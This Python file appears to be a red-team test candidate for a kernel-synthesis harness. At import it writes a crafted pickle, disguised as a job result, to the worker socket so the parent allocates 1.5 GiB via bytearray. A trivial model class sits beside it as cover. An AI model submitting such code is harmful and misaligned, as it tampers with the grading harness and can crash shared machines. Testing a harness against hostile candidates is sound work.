"""Attack: make the parent allocate far more memory than the result cap, with a tiny message.

The parent's unpickler resolves only the classes of a result (``RESULT_CLASSES``), and caps a
message at ``MAX_MESSAGE_BYTES`` (1 GiB). But ``builtins.bytearray`` is one of those classes, and
``bytearray(n)`` allocates and zeroes ``n`` bytes: a 30-byte pickle ``bytearray(N)`` (as the
``value`` of a ``JobResult``, so that it looks like a result) makes the parent touch N bytes.
This candidate writes that message on the job socket at import (its fd is the worker's first
argument; multiprocessing's framing is a 4-byte length), with N = 1.5 GiB (above the cap; a real
attacker would pick more than the machine has, and the OOM killer takes the run).

Success (GOT THROUGH): the parent's peak RSS (printed by ``run_attack.py``) grows by ~1.5 GiB
for one job. Contained: the message is refused before the allocation (fault ``tampering``).
"""
import os
import struct
import sys

import torch

N = 3 << 29  # 1.5 GiB
n = N.to_bytes(5, "little")
msg = (b"\x80\x02ckernelsynth.workers\nJobResult\nckernelsynth.contract\nFault\nX\x02\x00\x00\x00ok\x85R"
       b"cbuiltins\nbytearray\n\x8a\x05" + n + b"\x85R\x86R.")
os.write(int(sys.argv[1]), struct.pack("!i", len(msg)) + msg)


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return x.flip(1)
